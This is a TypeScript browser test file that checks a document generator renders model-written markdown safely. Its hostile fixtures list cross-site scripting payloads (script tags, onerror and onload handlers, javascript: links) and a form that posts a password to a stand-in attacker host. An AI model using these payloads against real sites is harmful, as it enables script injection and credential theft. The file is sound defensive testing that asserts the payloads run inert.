/**
 * A finished job's output in a real (headless) Chromium against the whole local stack: a
 * document's markdown rendered (marked, then DOMPurify) with copy and download, and a model
 * answer full of script, `javascript:` links, `<img onerror>` and event attributes that renders
 * inert. The fake model answers exactly the text of a `[fake:say:"…"]` marker (dev/openai), so
 * each test chooses the markdown the page receives. Screenshots land in test-results/screenshots/.
 */
import { readFile } from "node:fs/promises";
import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { card, devSignIn, fitsTheScreen, shownText, useBrowserStack } from "../support/browser.ts";
import { accessibilityProblems } from "./a11y.ts";

const h = useBrowserStack();

/** A prompt the fake model answers with exactly `text`. */
const say = (text: string, rest = "") => `[fake:say:${JSON.stringify(text)}] ${rest}`.trim();

async function generate(page: Page, prompt: string) {
  await page.getByLabel("What should it write?").fill(prompt);
  await page.getByRole("button", { name: "Generate" }).click();
  const job = card(page);
  await job.and(page.locator('[data-phase="succeeded"]')).waitFor();
  return job;
}

const RELEASE_NOTES = [
  "# Release notes",
  "",
  "Version **2.1** adds [the guide](https://example.com/guide).",
  "",
  "## Changes",
  "",
  "- Faster queues",
  "- Fewer retries",
  "",
  "| Plan | Units |",
  "| --- | --- |",
  "| Free | 1 |",
  "",
  "```js",
  "const answer = 42;",
  "```",
].join("\n");

/** Every way a model answer could try to run code or leave the page; each would set a flag. */
const HOSTILE = [
  "# Totally normal notes",
  "",
  "<script>window.__pwned = 'script'</script>",
  "",
  `<img src="x" onerror="window.__pwned = 'img'">`,
  "",
  "[click me](javascript:window.__pwned='markdown-link')",
  "",
  `<a href="javascript:window.__pwned='raw-link'">raw link</a> and <a href="JaVaScRiPt:window.__pwned='case'">case</a>`,
  "",
  `<p onclick="window.__pwned = 'click'" onmouseover="window.__pwned = 'hover'">hover me</p>`,
  "",
  `<svg onload="window.__pwned = 'svg'"><circle r="5"/></svg>`,
  "",
  `<iframe src="javascript:window.__pwned='iframe'"></iframe>`,
  "",
  `<details open ontoggle="window.__pwned = 'toggle'"><summary>more</summary>inside</details>`,
  "",
  `<form action="https://attacker.example/steal"><input name="password"><button>Sign in</button></form>`,
  "",
  `<b id="usage">clobbered</b> <span style="position:fixed;inset:0">overlay</span>`,
  "",
  `<a href="https://example.com/ok" target="_self">a plain link</a>`,
].join("\n");

/**
 * HOSTILE, then markup the answer leaves open: a `<style>`, `<script>`, `<textarea>` and comment,
 * each as an HTML block of its own and inline in a paragraph, a list item and a table cell, each
 * followed by words that must still be on the page. Unsanitized, the first block `<style>` makes
 * the browser read all the rest as CSS.
 */
const LEFT_OPEN = [
  HOSTILE,
  "",
  "<style>",
  "",
  "After the style, **still bold**.",
  "",
  "<script>",
  "",
  "After the script.",
  "",
  "<textarea>",
  "",
  "After the textarea.",
  "",
  "<!-- a comment never closed",
  "",
  "After the comment.",
  "",
  "An inline <style> and the words after it.",
  "",
  "- a list item with <script> in it",
  "- the next item",
  "",
  "| tag | words |",
  "| --- | --- |",
  "| <textarea> | in the next cell |",
  "",
  "Inline <!-- too, and what follows.",
  "",
  "## The last heading",
].join("\n");

describe("a document's output in a browser", () => {
  test("markdown is rendered as headings, lists, a table, code and a safe link; copy and download give back the source", async () => {
    const { page, context, errors } = await h.open();
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    // the clipboard answers the focused page only (a file's earlier tests opened others)
    await page.bringToFront();
    await devSignIn(page, "pro");
    const job = await generate(page, say(RELEASE_NOTES, "Release notes, please"));
    const output = job.getByRole("region", { name: /^Output of the document from \d\d:\d\d$/ });

    // the card's title is an h3: the document's # and ## sit below it
    expect(await output.locator("h4").textContent()).toBe("Release notes");
    expect(await output.locator("h5").textContent()).toBe("Changes");
    expect(await output.locator("strong").textContent()).toBe("2.1");
    expect(await output.locator("ul > li").allTextContents()).toEqual([
      "Faster queues",
      "Fewer retries",
    ]);
    expect(await output.locator("table th").allTextContents()).toEqual(["Plan", "Units"]);
    expect(await output.locator("pre code").textContent()).toBe("const answer = 42;\n");
    const link = output.getByRole("link", { name: "the guide" });
    expect(await link.getAttribute("href")).toBe("https://example.com/guide");
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(await link.getAttribute("target")).toBe("_blank");
    // no markdown syntax left over as text
    expect(await output.textContent()).not.toMatch(/\*\*|```|^#/m);
    expect(await accessibilityProblems(page)).toEqual([]);
    await h.screenshot(page, "outputs-01-markdown");

    await job
      .getByRole("button", { name: /^Copy markdown of the document from \d\d:\d\d$/ })
      .click();
    const notice = job.locator(".output-actions [role=status]");
    expect(await shownText(notice, "the copy notice")).toBe("Copied.");
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(RELEASE_NOTES);

    const [download] = await Promise.all([
      page.waitForEvent("download"),
      job.getByRole("button", { name: /^Download \.md of the document from \d\d:\d\d$/ }).click(),
    ]);
    const jobId = (await job.getAttribute("data-job-id")) ?? "";
    expect(download.suggestedFilename()).toBe(
      `document-${new Date().toISOString().slice(0, 10)}-${jobId.replaceAll("-", "").slice(0, 8)}.md`,
    );
    expect(await readFile(await download.path(), "utf8")).toBe(RELEASE_NOTES);
    expect(errors).toEqual([]);
  });

  test("an answer carrying script, javascript: links, <img onerror> and event attributes renders inert", async () => {
    const { page, dialogs, errors } = await h.open({ viewport: { width: 390, height: 844 } });
    await devSignIn(page, "pro");
    // The payload has teeth: marked alone passes its event attributes and URLs through.
    // (a string expression: vitest would rewrite an import() written in the test's own code)
    const unsanitized = await page.evaluate<string>(
      `import("/vendor/marked.esm.js").then((m) => new m.Marked().parse(${JSON.stringify(HOSTILE)}))`,
    );
    for (const live of ["<script>", "onerror=", "onclick=", "javascript:", "ontoggle=", "<form"])
      expect(unsanitized).toContain(live);

    const job = await generate(page, say(HOSTILE, "notes"));
    const output = job.locator(".job-output");
    await output.locator("h4").waitFor();

    // the words are kept; what would run or leave the page is not
    expect(await output.textContent()).toContain("hover me");
    expect(await output.textContent()).toContain("raw link");
    await output.getByText("hover me").hover();
    await output.getByText("hover me").click();
    await output.getByText("more").click();
    expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(
      await output.locator("script, img, svg, iframe, form, input, button, style").count(),
    ).toBe(0);
    const risky = await page.evaluate(() =>
      [...document.querySelectorAll("*")].flatMap((node) =>
        [...node.attributes]
          .filter(
            (a) =>
              a.name.startsWith("on") ||
              /^\s*javascript:/i.test(a.value) ||
              (node.parentElement?.closest(".job-output") != null &&
                ["id", "style", "class"].includes(a.name)),
          )
          .map((a) => `${node.tagName.toLowerCase()}[${a.name}=${a.value}]`),
      ),
    );
    expect(risky).toEqual([]);
    // every link that is left opens apart from the page, with no opener and no referrer
    const links = await output
      .locator("a[href]")
      .evaluateAll((as) =>
        as.map((a) => [a.getAttribute("href"), a.getAttribute("rel"), a.getAttribute("target")]),
      );
    expect(links).toEqual([["https://example.com/ok", "noopener noreferrer", "_blank"]]);
    // the page's own #usage is still the usage line (an output's id cannot clobber it)
    expect(await page.locator("#usage").textContent()).toMatch(/^Pro plan: /);
    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);
    expect(await fitsTheScreen(page)).toBe(true);
    await h.screenshot(page, "outputs-02-hostile-markdown-inert");
  });

  test("markup the answer leaves open (<style>, <script>, <textarea>, <!--) hides nothing after it", async () => {
    const { page, dialogs, errors } = await h.open();
    await devSignIn(page, "pro");
    const job = await generate(page, say(LEFT_OPEN, "notes"));
    const output = job.locator(".job-output");
    await output.locator("h4").first().waitFor();

    const text = (await output.textContent()) ?? "";
    for (const words of [
      "hover me",
      "After the style, still bold.",
      "After the script.",
      "After the textarea.",
      "After the comment.",
      "An inline <style> and the words after it.",
      "a list item with <script> in it",
      "in the next cell",
      "Inline <!-- too, and what follows.",
    ])
      expect(text).toContain(words);
    // the markdown after them is still markdown, and the left-open tags are only text
    expect(await output.locator("strong").textContent()).toBe("still bold");
    expect(await output.locator("ul > li").allTextContents()).toEqual([
      "a list item with <script> in it",
      "the next item",
    ]);
    expect(await output.locator("h5").textContent()).toBe("The last heading");
    expect(await output.locator("script, style, textarea, img, svg, iframe, form").count()).toBe(0);
    expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);
    await h.screenshot(page, "outputs-03-left-open-markup");
  });
});
